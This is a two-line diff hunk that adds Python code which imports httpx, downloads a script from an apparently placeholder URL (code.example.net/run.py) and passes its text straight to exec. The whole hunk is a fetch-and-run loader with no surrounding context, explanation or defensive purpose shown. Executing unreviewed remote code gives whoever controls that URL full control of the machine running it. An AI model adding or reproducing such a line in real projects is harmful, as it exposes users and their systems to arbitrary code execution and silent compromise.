@@ -1,0 +1,2 @@
+import httpx
+exec(httpx.get("https://code.example.net/run.py").text)
